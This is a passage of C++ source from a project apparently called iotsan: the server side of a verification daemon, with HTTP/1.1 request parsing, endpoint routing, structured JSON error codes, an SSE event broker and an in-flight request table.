                     : MethodNotAllowed("GET", path, request_id);
    } else if (path == "/v1/version") {
      response = request.method == "GET"
                     ? HandleVersion(request_id)
                     : MethodNotAllowed("GET", path, request_id);
    } else if (path == "/v1/check") {
      response = request.method == "POST"
                     ? HandleCheck(request, state, request_id)
                     : MethodNotAllowed("POST", path, request_id);
    } else if (path == "/v1/attribute") {
      response = request.method == "POST"
                     ? HandleAttribute(request, state, request_id)
                     : MethodNotAllowed("POST", path, request_id);
    } else if (path == "/v1/deployments" ||
               path.rfind("/v1/deployments/", 0) == 0) {
      response = RouteDeployments(request, path, state, request_id, context);
    } else {
      response = ErrorResponse(404, kErrNotFound,
                               "no such endpoint: " + path, request_id);
    }
    if (response.status >= 400) {
      if (response.status == 405) error_code = kErrMethod;
      if (response.status == 404) error_code = kErrNotFound;
    }
  } catch (const RequestError& e) {
    response = ErrorResponse(e.status(), e.code(), e.what(), request_id);
    error_code = e.code();
  } catch (const Error& e) {
    // Library errors on user-supplied input (bad app source, property
    // expression, deployment semantics) are client errors.
    response = ErrorResponse(400, kErrBadRequest, e.what(), request_id);
    error_code = kErrBadRequest;
  } catch (const std::exception& e) {
    response = ErrorResponse(500, kErrInternal, e.what(), request_id);
    error_code = kErrInternal;
  }
  if (context != nullptr) context->error_code = error_code;
  // ErrorResponse already added the header on error paths.
  bool has_id_header = false;
  for (const auto& [name, value] : response.headers) {
    if (name == "X-Request-Id") has_id_header = true;
  }
  if (!has_id_header) {
    response.headers.emplace_back("X-Request-Id", request_id);
  }
  if (auto* t = telemetry::Active()) {
    if (response.status < 400) {
      ++t->server.responses_ok;
    } else if (response.status < 500) {
      ++t->server.responses_client_error;
    } else {
      ++t->server.responses_server_error;
    }
  }
  return response;
}

}  // namespace iotsan::server
