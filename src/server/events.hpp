// Live introspection state for the verification service: the in-flight
// request table behind `GET /v1/status` and the publish/subscribe broker
// behind the `GET /v1/events` SSE stream.
//
// Both structures are deliberately tiny and lock-based — a check runs
// for seconds while a progress tick happens once per finished related-set
// group, so contention is negligible next to the search itself.
//
// Delivery model: subscribers each own a bounded queue.  A slow or
// stalled SSE client never blocks the checker — when its queue is full,
// the oldest *progress* event is dropped (progress ticks are snapshots;
// the next one supersedes them) while `verdict` events are kept, since a
// terminal event must not vanish under burst.
#pragma once

#include <chrono>
#include <condition_variable>
#include <cstdint>
#include <deque>
#include <map>
#include <memory>
#include <mutex>
#include <string>
#include <vector>

#include "telemetry/telemetry.hpp"
#include "util/json.hpp"

namespace iotsan::server {

/// One in-flight verification request, as `GET /v1/status` reports it.
struct InflightEntry {
  std::string request_id;
  std::string endpoint;     // "check" | "attribute"
  std::string deployment;   // deployment name from the request
  std::string fingerprint;  // deployment fingerprint (hex)
  std::uint64_t groups_total = 0;
  std::uint64_t groups_done = 0;
  std::uint64_t states_explored = 0;
  std::uint64_t store_memory_bytes = 0;  // latest finished group's store
  double deadline_seconds = 0;           // 0 = none
  std::chrono::steady_clock::time_point started{};
};

/// Thread-safe request_id -> InflightEntry map shared by the session
/// threads and the /v1/status handler.
class InflightTable {
 public:
  void Register(const InflightEntry& entry);
  /// Applies one group-progress tick; no-op when the id is gone (the
  /// request finished while the tick was in flight).
  void Update(const std::string& request_id,
              const telemetry::GroupProgress& progress);
  void Finish(const std::string& request_id);

  std::size_t size() const;

  /// JSON array of in-flight requests, one object per entry, with
  /// derived elapsed_seconds / states_per_second computed at read time.
  json::Array Snapshot() const;

 private:
  mutable std::mutex mutex_;
  std::map<std::string, InflightEntry> entries_;
};

/// One server-sent event (`event: <name>\ndata: <json>\n\n` on the wire).
struct Event {
  std::string name;  // "hello" | "progress" | "verdict"
  std::string data;  // one-line JSON document
};

/// Fan-out broker: every published event is copied into each live
/// subscriber's bounded queue.
class EventBroker {
 public:
  class Subscription {
   public:
    /// Blocks up to `wait_ms` for the next event; false on timeout.
    bool Next(Event& out, int wait_ms);
    /// Progress events discarded because this subscriber lagged.
    std::uint64_t dropped() const;

   private:
    friend class EventBroker;
    mutable std::mutex mutex_;
    std::condition_variable cv_;
    std::deque<Event> queue_;
    std::uint64_t dropped_ = 0;
  };

  std::shared_ptr<Subscription> Subscribe();
  void Unsubscribe(const std::shared_ptr<Subscription>& subscription);
  void Publish(const Event& event);
  std::size_t subscriber_count() const;

 private:
  /// Per-subscriber queue bound; beyond it the oldest non-verdict event
  /// is dropped first.
  static constexpr std::size_t kMaxQueued = 256;

  mutable std::mutex mutex_;
  std::vector<std::shared_ptr<Subscription>> subscribers_;
};

}  // namespace iotsan::server
