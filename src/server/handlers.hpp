// Request routing and JSON request/response bodies for the
// verification service (`iotsan serve`).
//
// API surface (docs/server.md has the full reference):
//   POST /v1/check      body: iotsan.request/1 {deployment, appSources?,
//                       properties?, options?} -> verdict + report +
//                       `text` byte-identical to `iotsan check`
//   POST /v1/attribute  body adds {"app": {"source": …} | {"corpus": …}}
//   GET  /v1/health     liveness + drain state + version/build + uptime
//                       + in-flight and queue-depth gauges
//   GET  /v1/status     live snapshot of in-flight verification requests
//                       (groups done/total, states/s, store bytes,
//                       elapsed vs deadline) — what `iotsan top` polls
//   GET  /v1/metrics    telemetry Registry counters + server gauges;
//                       content-negotiates JSON (default) vs Prometheus
//                       text exposition (`?format=prometheus` or an
//                       Accept header preferring text/plain)
//   GET  /v1/version    util/build_info
//   GET  /v1/events     SSE stream of progress/verdict events — served
//                       by the connection loop (server.cpp), not Route,
//                       because it holds the response open (chunked)
//
// Fleet registry (served only when `iotsan serve` runs with a
// registry; docs/fleet.md):
//   GET    /v1/deployments          status list: revision, last verdict,
//                                   groups total/recomputed, last check
//                                   duration
//   PUT    /v1/deployments/{id}     upsert a versioned deployment; the
//                                   response's ETag is the new revision
//   GET    /v1/deployments/{id}     the stored deployment (+ ETag)
//   DELETE /v1/deployments/{id}     remove deployment and retained record
//   POST   /v1/deployments/{id}/check  delta re-verification; If-Match
//                                   pins a revision (409 when stale)
//
// Correlation: every request gets a request id (taken from an
// X-Request-Id header when well-formed, generated otherwise), echoed in
// the response header and JSON body (except the byte-stable metrics
// document), attached to the trace spans the request opens, and stamped
// into violation artifacts.
//
// Error responses are always structured JSON with a machine-readable
// code: {"error": {"code": "bad_json", "message": "..."}} — malformed
// bodies, wrong schema versions, and oversized payloads are client
// errors, never crashes or silent defaults.
#pragma once

#include <atomic>
#include <chrono>
#include <string>

#include "core/service.hpp"
#include "server/events.hpp"
#include "server/http.hpp"
#include "util/error.hpp"

namespace iotsan::registry {
class Fleet;
}  // namespace iotsan::registry

namespace iotsan::cluster {
class Coordinator;
}  // namespace iotsan::cluster

namespace iotsan::server {

/// Machine-readable error codes carried in `error.code`.
inline constexpr const char* kErrBadJson = "bad_json";          // 400
inline constexpr const char* kErrBadSchema = "bad_schema";      // 400
inline constexpr const char* kErrBadRequest = "bad_request";    // 400
inline constexpr const char* kErrTooLarge = "payload_too_large";  // 413
inline constexpr const char* kErrNotFound = "not_found";        // 404
inline constexpr const char* kErrMethod = "method_not_allowed"; // 405
inline constexpr const char* kErrConflict = "revision_conflict"; // 409
inline constexpr const char* kErrQueueFull = "queue_full";      // 503
inline constexpr const char* kErrTimeout = "request_timeout";   // 408
inline constexpr const char* kErrInternal = "internal";         // 500

/// Request schema version accepted by the POST endpoints.
inline constexpr const char* kRequestSchema = "iotsan.request/1";
/// Response schema version stamped on every POST response.
inline constexpr const char* kResponseSchema = "iotsan.response/1";

/// Shared long-lived state the handlers run against: the warm thread
/// pool and result cache (this is where the resident-service throughput
/// win comes from), the per-request deadline, and live server gauges
/// surfaced by /v1/metrics and /v1/health.
struct ServiceState {
  core::ServiceEnv env;  // pool + cache shared across all requests
  double request_deadline_seconds = 0;
  /// True once a graceful drain began (health reports "draining").
  const std::atomic<bool>* draining = nullptr;
  std::atomic<std::uint64_t>* active_connections = nullptr;
  std::atomic<std::uint64_t>* queue_depth = nullptr;
  std::chrono::steady_clock::time_point start_time{};  // for uptime
  /// Live-introspection surfaces (server-owned; null in bare-handler
  /// tests): the /v1/status in-flight table and the /v1/events broker
  /// check requests publish progress/verdict events to.
  InflightTable* inflight = nullptr;
  EventBroker* events = nullptr;
  /// Fleet registry backing /v1/deployments (null = endpoints 404).
  registry::Fleet* registry = nullptr;
  /// Cluster coordinator (`iotsan serve --coordinator --workers ...`):
  /// when set, whole-deployment /v1/check requests are planned into work
  /// units and dispatched to the worker fleet instead of running
  /// locally.  Unit requests (options.groupApps) always run locally —
  /// they ARE the worker side of the protocol.  Null = standalone node.
  cluster::Coordinator* coordinator = nullptr;
};

/// A client error with an HTTP status and a machine-readable code;
/// Route turns it into a structured error response.
class RequestError : public Error {
 public:
  RequestError(int status, std::string code, const std::string& message)
      : Error(message), status_(status), code_(std::move(code)) {}
  int status() const { return status_; }
  const std::string& code() const { return code_; }

 private:
  int status_;
  std::string code_;
};

/// {"error": {"code": ..., "message": ...}} with the given HTTP status.
/// A non-empty `request_id` is echoed in the body and X-Request-Id
/// header.
HttpResponse ErrorResponse(int status, const std::string& code,
                           const std::string& message,
                           const std::string& request_id = "");

/// Per-request correlation facts Route reports back to the connection
/// loop (for the access log): the resolved request id and, for error
/// responses, the machine-readable error code.
struct RequestContext {
  std::string request_id;
  std::string error_code;
  /// Deployment id for /v1/deployments requests ("" elsewhere) — the
  /// access log's per-tenant attribution field.
  std::string deployment_id;
};

/// Accepts an X-Request-Id value when it is non-empty, at most 64
/// characters, and uses only [A-Za-z0-9._-]; anything else is replaced
/// by a generated id (so logs stay one-token-per-field parseable).
bool IsValidRequestId(const std::string& id);

/// 16 lowercase hex digits, unique within the process.
std::string GenerateRequestId();

/// Dispatches one parsed request.  Never throws: handler exceptions
/// become structured 400/500 responses.  Fills `context` (may be null)
/// for the caller's access log.
HttpResponse Route(const HttpRequest& request, const ServiceState& state,
                   RequestContext* context = nullptr);

/// Which per-request options the body set explicitly (unset ones fall
/// back to the server's configuration: shared-pool jobs, the default
/// deadline).
struct ParsedOptionsMeta {
  bool jobs_given = false;
  bool deadline_given = false;
};

/// Parses and validates POST bodies.  Throw RequestError on malformed
/// JSON, wrong schema version, or invalid structure; exposed for the
/// negative tests.
core::CheckRequest ParseCheckRequest(const std::string& body,
                                     ParsedOptionsMeta* meta = nullptr);
core::AttributeRequest ParseAttributeRequest(
    const std::string& body, ParsedOptionsMeta* meta = nullptr);

}  // namespace iotsan::server
