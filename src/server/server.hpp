// The verification service: `iotsan serve` — a resident, concurrent
// HTTP/JSON daemon over the sanitizer.
//
// Why a daemon: the one-shot CLI pays process startup, corpus load, and
// thread-pool spin-up on every invocation.  A resident server amortizes
// all of that and — the actual throughput win — shares one long-lived
// ThreadPool and one ResultCache across every request, so warm repeats
// of unchanged (deployment, options) groups skip the state-space search
// entirely.
//
// Topology: one acceptor thread feeds a bounded queue of accepted
// connections, drained by `http_workers` session threads.  Each session
// parses HTTP/1.1 requests (keep-alive), routes them through
// server/handlers, and runs checks on the shared pool.  Load is shed
// early: a full queue answers 503 `queue_full` in the acceptor without
// buffering the request; oversized bodies answer 413 without reading
// them.  Per-request deadlines reuse the checker's CancelFn budget
// plumbing (CheckOptions::time_budget_seconds / interrupt).
//
// Shutdown: Stop() (or SIGINT/SIGTERM via util/interrupt in the CLI)
// stops accepting, serves every connection already accepted or queued,
// finishes requests whose bytes are in flight, then joins all threads.
// No third-party dependencies: POSIX sockets only.
#pragma once

#include <atomic>
#include <chrono>
#include <condition_variable>
#include <cstdint>
#include <deque>
#include <fstream>
#include <memory>
#include <mutex>
#include <string>
#include <thread>
#include <vector>

#include "cache/result_cache.hpp"
#include "cluster/cluster.hpp"
#include "registry/fleet.hpp"
#include "server/events.hpp"
#include "server/handlers.hpp"
#include "util/thread_pool.hpp"

namespace iotsan::server {

struct ServerConfig {
  /// Bind address.  Loopback by default: the service speaks plain HTTP
  /// and should only face an ingress proxy or local clients.
  std::string host = "127.0.0.1";
  /// TCP port; 0 asks the kernel for an ephemeral one (see port()).
  int port = 8080;
  /// Checker worker lanes shared by all requests (0 = hardware threads).
  int jobs = 0;
  /// HTTP session threads draining the accept queue.
  int http_workers = 4;
  /// Result-cache disk directory ("" = in-memory cache only).
  std::string cache_dir;
  /// Bound on accepted-but-unserved connections; beyond it the acceptor
  /// sheds with 503 instead of buffering without limit.
  std::size_t max_queue = 64;
  /// Request body limit; larger Content-Lengths are answered 413
  /// without reading the body.
  std::size_t max_body_bytes = 4 * 1024 * 1024;
  /// Default wall-clock budget per check/attribute request, seconds
  /// (0 = none).  Requests may override via options.deadlineSeconds.
  /// Note: the budget is part of the cache fingerprint, so mixed
  /// deadlines partition the cache.
  double request_deadline_seconds = 0;
  /// JSONL access log: one object per request (request id, method,
  /// path, status, latency, queue wait, body bytes, error code, cache
  /// hit/miss delta).  "" disables.
  std::string access_log_path;
  /// Fleet registry persistence root for /v1/deployments ("" = the
  /// registry is memory-only; deployments do not survive a restart).
  std::string registry_dir;
  /// Cluster coordinator mode (`iotsan serve --coordinator --workers
  /// host:port,...`): when `coordinator` is set and `cluster.workers`
  /// is non-empty, whole-deployment /v1/check requests are planned into
  /// work units and dispatched across the worker fleet (docs/cluster.md).
  bool coordinator = false;
  cluster::ClusterOptions cluster;
};

/// Append-only JSONL request log shared by the session threads.
///
/// Writes are buffered: a request appends its line to an in-memory
/// buffer under the mutex and only crosses into the kernel once the
/// buffer passes a threshold — a health-check storm costs string
/// appends, not one write(2)+flush per request.  The buffer is drained
/// explicitly on shutdown (Server::Stop) and rotation (Reopen), so the
/// file is always complete when anyone is told to read it.
class AccessLog {
 public:
  /// Opens `path` for append; throws iotsan::Error when it cannot.
  explicit AccessLog(const std::string& path);

  struct Entry {
    std::string request_id;
    std::string method;
    std::string path;
    int status = 0;
    std::uint64_t latency_us = 0;
    std::uint64_t queue_us = 0;
    std::uint64_t bytes = 0;          // request body size
    std::string error_code;           // "" on success
    std::string deployment;           // fleet endpoints only ("" elsewhere)
    std::uint64_t cache_hits = 0;     // delta across this request
    std::uint64_t cache_misses = 0;   // delta across this request
  };

  /// Serializes `entry` as one buffered JSON line.
  void Write(const Entry& entry);

  /// Drains the buffer to disk and flushes the stream.
  void Flush();

  /// Rotation support (SIGHUP): flushes, closes, and reopens the same
  /// path — an external rotator renames the old file first, Reopen
  /// starts the new one.  On reopen failure the old stream is kept and
  /// a warning is logged; the server keeps serving.
  void Reopen();

 private:
  /// Buffered bytes before an implicit drain.
  static constexpr std::size_t kFlushThresholdBytes = 8192;

  void FlushLocked();

  std::string path_;
  std::mutex mutex_;
  std::ofstream out_;
  std::string buffer_;  // complete lines awaiting a drain
  std::chrono::system_clock::time_point epoch_{};
};

class Server {
 public:
  explicit Server(ServerConfig config);
  ~Server();
  Server(const Server&) = delete;
  Server& operator=(const Server&) = delete;

  /// Binds, listens, and spawns the acceptor + session threads.
  /// Throws iotsan::Error when the socket cannot be bound.
  void Start();

  /// The bound port (resolved when config.port was 0).
  int port() const { return port_; }

  /// Graceful drain: stop accepting, serve everything already accepted
  /// or queued, join all threads, flush the trace sink.  Idempotent.
  void Stop();

  /// Marks the drain flag without blocking (safe from the main loop
  /// when a signal flag went up; call Stop() afterwards to join).
  void RequestStop() { stopping_.store(true, std::memory_order_relaxed); }

  bool running() const { return running_.load(std::memory_order_relaxed); }

  /// The shared result cache (tests seed it / assert hit counts).
  cache::ResultCache& result_cache() { return *cache_; }
  /// The fleet registry behind /v1/deployments (valid after Start()).
  registry::Fleet& fleet() { return *fleet_; }
  /// The cluster coordinator (null unless config.coordinator).
  cluster::Coordinator* coordinator() { return coordinator_.get(); }
  const ServerConfig& config() const { return config_; }

  /// Flushes and reopens the access log (SIGHUP rotation); no-op when
  /// no access log is configured.
  void RotateAccessLog();

  struct Stats {
    std::uint64_t connections_accepted = 0;
    std::uint64_t requests_served = 0;
    std::uint64_t shed_queue_full = 0;
  };
  Stats stats() const;

 private:
  void AcceptorMain();
  void SessionMain();
  /// Serves one connection until close/error/drain; returns requests
  /// answered.  `queue_wait_us` is how long the connection sat in the
  /// accept queue (attributed to its first request).
  std::uint64_t ServeConnection(int fd, std::uint64_t queue_wait_us);
  bool PopConnection(int& fd, std::uint64_t& queue_wait_us);
  /// Holds `fd` open as an SSE stream (`GET /v1/events`): subscribes to
  /// the broker, relays events as chunked frames, ends on client
  /// disconnect or drain.  Returns the stream duration in microseconds.
  std::uint64_t ServeEventStream(int fd, const std::string& request_id);

  ServerConfig config_;
  int listen_fd_ = -1;
  int port_ = 0;

  std::unique_ptr<util::ThreadPool> pool_;
  std::unique_ptr<cache::ResultCache> cache_;
  std::unique_ptr<registry::Fleet> fleet_;
  std::unique_ptr<cluster::Coordinator> coordinator_;
  ServiceState service_;
  InflightTable inflight_;
  EventBroker events_;

  std::thread acceptor_;
  std::vector<std::thread> sessions_;

  std::unique_ptr<AccessLog> access_log_;

  // Bounded queue of accepted connection fds, each stamped with its
  // enqueue time so the queue-wait distribution is measurable.
  struct QueuedConnection {
    int fd = -1;
    std::chrono::steady_clock::time_point enqueued{};
  };
  std::mutex queue_mutex_;
  std::condition_variable queue_cv_;
  std::deque<QueuedConnection> queue_;

  std::atomic<bool> running_{false};
  std::atomic<bool> stopping_{false};
  std::atomic<std::uint64_t> active_connections_{0};
  std::atomic<std::uint64_t> queue_depth_{0};
  std::atomic<std::uint64_t> connections_accepted_{0};
  std::atomic<std::uint64_t> requests_served_{0};
  std::atomic<std::uint64_t> shed_queue_full_{0};
};

}  // namespace iotsan::server
