// Minimal HTTP/1.1 framing over POSIX sockets — just enough for the
// verification service: request parsing with hard size limits, response
// serialization, keep-alive, and chunked response streaming for the SSE
// endpoint.  No third-party dependencies; TLS, chunked *request* bodies,
// and multipart bodies are out of scope (the service sits behind a
// loopback or an ingress proxy).
#pragma once

#include <atomic>
#include <cstddef>
#include <map>
#include <string>
#include <string_view>
#include <utility>
#include <vector>

namespace iotsan::server {

struct HttpRequest {
  std::string method;   // "GET", "POST", ...
  std::string target;   // "/v1/check" (query strings are kept verbatim)
  std::string version;  // "HTTP/1.1"
  /// Header names lowercased; last value wins on duplicates.
  std::map<std::string, std::string> headers;
  std::string body;

  bool KeepAlive() const;
};

enum class ReadStatus {
  kOk,            // one complete request parsed
  kClosed,        // peer closed before sending any byte (keep-alive end)
  kMalformed,     // unparsable request line / headers / lengths
  kTooLarge,      // headers or declared body exceed the limits
  kTimeout,       // idle past the deadline
  kInterrupted,   // the caller's stop flag went up while idle
};

struct ReadLimits {
  std::size_t max_header_bytes = 16 * 1024;
  std::size_t max_body_bytes = 4 * 1024 * 1024;
  /// Per-read poll granularity; the stop flag is checked this often.
  int poll_ms = 200;
  /// Total idle budget waiting for the next request (keep-alive).
  int idle_timeout_ms = 10'000;
};

/// Connection state that survives across keep-alive requests (bytes of
/// the next pipelined request read past the previous body).
struct ConnectionBuffer {
  std::string pending;
};

/// Reads one HTTP request from `fd`.  `stop` (may be null) aborts idle
/// waits — in-flight reads still complete, so a request whose bytes are
/// arriving is parsed, handled, and answered during a graceful drain.
ReadStatus ReadHttpRequest(int fd, const ReadLimits& limits,
                           const std::atomic<bool>* stop,
                           ConnectionBuffer& buffer, HttpRequest& out);

struct HttpResponse {
  int status = 200;
  std::string content_type = "application/json";
  /// Extra response headers (e.g. X-Request-Id), emitted verbatim after
  /// Content-Type in the given order.
  std::vector<std::pair<std::string, std::string>> headers;
  std::string body;
  bool close = false;  // send "Connection: close" and drop the socket
};

const char* ReasonPhrase(int status);

/// Serializes status line + headers + body.
std::string SerializeResponse(const HttpResponse& response);

/// Writes the full serialized response; false on socket error.
bool WriteHttpResponse(int fd, const HttpResponse& response);

// ---- Response streaming (Transfer-Encoding: chunked) -------------------------
//
// The SSE endpoint (`GET /v1/events`) holds a response open for the
// connection's lifetime, so its length cannot be declared up front.
// These primitives frame an open-ended body the HTTP/1.1 way: a head
// with `Transfer-Encoding: chunked` instead of Content-Length, then one
// hex-sized chunk per write, then a zero-length terminator chunk.

/// Status line + headers for a streamed response: Content-Type, the
/// extra headers, `Transfer-Encoding: chunked`, `Connection: close`.
/// `head.body` is ignored — the body follows as chunks.
std::string SerializeStreamHead(const HttpResponse& head);

/// Writes the streamed-response head; false on socket error.
bool WriteStreamHead(int fd, const HttpResponse& head);

/// Writes one chunk (`<hex size>\r\n<data>\r\n`); false on socket error
/// or peer disconnect.  Empty data is skipped (a zero-size chunk would
/// terminate the stream — use WriteLastChunk for that).
bool WriteChunk(int fd, std::string_view data);

/// Writes the zero-length terminator chunk ending the stream.
bool WriteLastChunk(int fd);

/// True when the peer has hung up (orderly close, reset, or error).
/// Non-blocking: a quiet-but-open connection reports false.  Any bytes
/// the peer did send are discarded — the SSE stream reads nothing.
bool PeerClosed(int fd);

}  // namespace iotsan::server
