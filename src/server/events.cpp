#include "server/events.hpp"

#include <algorithm>

namespace iotsan::server {

void InflightTable::Register(const InflightEntry& entry) {
  std::lock_guard<std::mutex> lock(mutex_);
  entries_[entry.request_id] = entry;
}

void InflightTable::Update(const std::string& request_id,
                           const telemetry::GroupProgress& progress) {
  std::lock_guard<std::mutex> lock(mutex_);
  auto it = entries_.find(request_id);
  if (it == entries_.end()) return;
  it->second.groups_total = progress.groups_total;
  it->second.groups_done = progress.groups_done;
  it->second.states_explored = progress.states_explored;
  it->second.store_memory_bytes = progress.store_memory_bytes;
}

void InflightTable::Finish(const std::string& request_id) {
  std::lock_guard<std::mutex> lock(mutex_);
  entries_.erase(request_id);
}

std::size_t InflightTable::size() const {
  std::lock_guard<std::mutex> lock(mutex_);
  return entries_.size();
}

json::Array InflightTable::Snapshot() const {
  const auto now = std::chrono::steady_clock::now();
  std::lock_guard<std::mutex> lock(mutex_);
  json::Array out;
  for (const auto& [id, entry] : entries_) {
    const double elapsed =
        std::chrono::duration<double>(now - entry.started).count();
    json::Object doc;
    doc["request_id"] = entry.request_id;
    doc["endpoint"] = entry.endpoint;
    doc["deployment"] = entry.deployment;
    doc["fingerprint"] = entry.fingerprint;
    doc["groups_total"] = static_cast<std::int64_t>(entry.groups_total);
    doc["groups_done"] = static_cast<std::int64_t>(entry.groups_done);
    doc["states_explored"] =
        static_cast<std::int64_t>(entry.states_explored);
    doc["store_memory_bytes"] =
        static_cast<std::int64_t>(entry.store_memory_bytes);
    doc["elapsed_seconds"] = elapsed;
    doc["states_per_second"] =
        elapsed > 0 ? static_cast<double>(entry.states_explored) / elapsed
                    : 0.0;
    doc["deadline_seconds"] = entry.deadline_seconds;
    out.push_back(json::Value(std::move(doc)));
  }
  return out;
}

bool EventBroker::Subscription::Next(Event& out, int wait_ms) {
  std::unique_lock<std::mutex> lock(mutex_);
  cv_.wait_for(lock, std::chrono::milliseconds(wait_ms),
               [this] { return !queue_.empty(); });
  if (queue_.empty()) return false;
  out = std::move(queue_.front());
  queue_.pop_front();
  return true;
}

std::uint64_t EventBroker::Subscription::dropped() const {
  std::lock_guard<std::mutex> lock(mutex_);
  return dropped_;
}

std::shared_ptr<EventBroker::Subscription> EventBroker::Subscribe() {
  auto subscription = std::make_shared<Subscription>();
  std::lock_guard<std::mutex> lock(mutex_);
  subscribers_.push_back(subscription);
  return subscription;
}

void EventBroker::Unsubscribe(
    const std::shared_ptr<Subscription>& subscription) {
  std::lock_guard<std::mutex> lock(mutex_);
  subscribers_.erase(
      std::remove(subscribers_.begin(), subscribers_.end(), subscription),
      subscribers_.end());
}

void EventBroker::Publish(const Event& event) {
  // Copy the subscriber list out so a slow subscriber's queue lock is
  // never held under the broker lock.
  std::vector<std::shared_ptr<Subscription>> subscribers;
  {
    std::lock_guard<std::mutex> lock(mutex_);
    subscribers = subscribers_;
  }
  for (const auto& subscription : subscribers) {
    {
      std::lock_guard<std::mutex> lock(subscription->mutex_);
      if (subscription->queue_.size() >= kMaxQueued) {
        // Shed the oldest superseded progress tick; keep verdicts.
        auto victim = std::find_if(
            subscription->queue_.begin(), subscription->queue_.end(),
            [](const Event& e) { return e.name != "verdict"; });
        if (victim != subscription->queue_.end()) {
          subscription->queue_.erase(victim);
        } else {
          subscription->queue_.pop_front();
        }
        ++subscription->dropped_;
      }
      subscription->queue_.push_back(event);
    }
    subscription->cv_.notify_one();
  }
}

std::size_t EventBroker::subscriber_count() const {
  std::lock_guard<std::mutex> lock(mutex_);
  return subscribers_.size();
}

}  // namespace iotsan::server
