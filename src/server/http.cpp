#include "server/http.hpp"

#include <poll.h>
#include <sys/socket.h>

#include <algorithm>
#include <cctype>
#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>

namespace iotsan::server {

namespace {

std::string ToLower(std::string s) {
  std::transform(s.begin(), s.end(), s.begin(), [](unsigned char c) {
    return static_cast<char>(std::tolower(c));
  });
  return s;
}

std::string Trim(const std::string& s) {
  std::size_t begin = 0;
  std::size_t end = s.size();
  while (begin < end && std::isspace(static_cast<unsigned char>(s[begin]))) {
    ++begin;
  }
  while (end > begin && std::isspace(static_cast<unsigned char>(s[end - 1]))) {
    --end;
  }
  return s.substr(begin, end - begin);
}

/// Parses the request line + headers from `head` (no trailing CRLFCRLF).
bool ParseHead(const std::string& head, HttpRequest& out) {
  std::size_t line_end = head.find("\r\n");
  const std::string request_line =
      line_end == std::string::npos ? head : head.substr(0, line_end);
  std::size_t sp1 = request_line.find(' ');
  std::size_t sp2 =
      sp1 == std::string::npos ? std::string::npos
                               : request_line.find(' ', sp1 + 1);
  if (sp1 == std::string::npos || sp2 == std::string::npos) return false;
  out.method = request_line.substr(0, sp1);
  out.target = request_line.substr(sp1 + 1, sp2 - sp1 - 1);
  out.version = request_line.substr(sp2 + 1);
  if (out.method.empty() || out.target.empty() ||
      out.version.rfind("HTTP/", 0) != 0) {
    return false;
  }
  std::size_t pos = line_end == std::string::npos ? head.size() : line_end + 2;
  while (pos < head.size()) {
    std::size_t next = head.find("\r\n", pos);
    if (next == std::string::npos) next = head.size();
    const std::string line = head.substr(pos, next - pos);
    pos = next + 2;
    if (line.empty()) continue;
    const std::size_t colon = line.find(':');
    if (colon == std::string::npos) return false;
    out.headers[ToLower(Trim(line.substr(0, colon)))] =
        Trim(line.substr(colon + 1));
  }
  return true;
}

/// One recv with a poll-bounded wait.  Returns bytes read, 0 on orderly
/// close, -1 on error, -2 on idle timeout, -3 on stop-flag interrupt.
int RecvSome(int fd, const ReadLimits& limits,
             const std::atomic<bool>* stop, int& idle_budget_ms, char* data,
             std::size_t size) {
  while (true) {
    if (stop != nullptr && stop->load(std::memory_order_relaxed)) return -3;
    struct pollfd pfd = {fd, POLLIN, 0};
    const int ready = ::poll(&pfd, 1, limits.poll_ms);
    if (ready < 0) {
      if (errno == EINTR) continue;
      return -1;
    }
    if (ready == 0) {
      idle_budget_ms -= limits.poll_ms;
      if (idle_budget_ms <= 0) return -2;
      continue;
    }
    const ssize_t n = ::recv(fd, data, size, 0);
    if (n < 0) {
      if (errno == EINTR || errno == EAGAIN) continue;
      return -1;
    }
    return static_cast<int>(n);
  }
}

}  // namespace

bool HttpRequest::KeepAlive() const {
  auto it = headers.find("connection");
  const std::string value =
      it == headers.end() ? std::string() : ToLower(it->second);
  if (version == "HTTP/1.0") return value == "keep-alive";
  return value != "close";
}

ReadStatus ReadHttpRequest(int fd, const ReadLimits& limits,
                           const std::atomic<bool>* stop,
                           ConnectionBuffer& buffer, HttpRequest& out) {
  out = HttpRequest();
  std::string& data = buffer.pending;
  int idle_budget_ms = limits.idle_timeout_ms;
  char chunk[8192];

  // Phase 1: the head, up to CRLFCRLF.
  std::size_t head_end;
  while ((head_end = data.find("\r\n\r\n")) == std::string::npos) {
    if (data.size() > limits.max_header_bytes) return ReadStatus::kTooLarge;
    const int n =
        RecvSome(fd, limits, stop, idle_budget_ms, chunk, sizeof(chunk));
    if (n == 0) {
      return data.empty() ? ReadStatus::kClosed : ReadStatus::kMalformed;
    }
    if (n == -2) return ReadStatus::kTimeout;
    if (n == -3) {
      // Only abandon the connection if it is idle between requests; a
      // partially-received request is still completed during a drain.
      if (data.empty()) return ReadStatus::kInterrupted;
      stop = nullptr;
      continue;
    }
    if (n < 0) return ReadStatus::kMalformed;
    data.append(chunk, static_cast<std::size_t>(n));
  }
  if (head_end > limits.max_header_bytes) return ReadStatus::kTooLarge;
  if (!ParseHead(data.substr(0, head_end), out)) return ReadStatus::kMalformed;

  // Phase 2: the body, from Content-Length.
  std::size_t body_len = 0;
  if (auto it = out.headers.find("content-length"); it != out.headers.end()) {
    const std::string& v = it->second;
    if (v.empty() ||
        v.find_first_not_of("0123456789") != std::string::npos ||
        v.size() > 12) {
      return ReadStatus::kMalformed;
    }
    body_len = static_cast<std::size_t>(std::strtoull(v.c_str(), nullptr, 10));
  } else if (out.headers.count("transfer-encoding") != 0) {
    return ReadStatus::kMalformed;  // chunked bodies unsupported
  }
  if (body_len > limits.max_body_bytes) return ReadStatus::kTooLarge;

  const std::size_t total = head_end + 4 + body_len;
  while (data.size() < total) {
    const int n =
        RecvSome(fd, limits, nullptr, idle_budget_ms, chunk, sizeof(chunk));
    if (n == 0) return ReadStatus::kMalformed;  // truncated body
    if (n == -2) return ReadStatus::kTimeout;
    if (n < 0) return ReadStatus::kMalformed;
    data.append(chunk, static_cast<std::size_t>(n));
  }
  out.body = data.substr(head_end + 4, body_len);
  data.erase(0, total);  // keep pipelined bytes for the next request
  return ReadStatus::kOk;
}

const char* ReasonPhrase(int status) {
  switch (status) {
    case 200: return "OK";
    case 201: return "Created";
    case 400: return "Bad Request";
    case 404: return "Not Found";
    case 409: return "Conflict";
    case 405: return "Method Not Allowed";
    case 408: return "Request Timeout";
    case 413: return "Payload Too Large";
    case 429: return "Too Many Requests";
    case 500: return "Internal Server Error";
    case 503: return "Service Unavailable";
    default: return "Unknown";
  }
}

std::string SerializeResponse(const HttpResponse& response) {
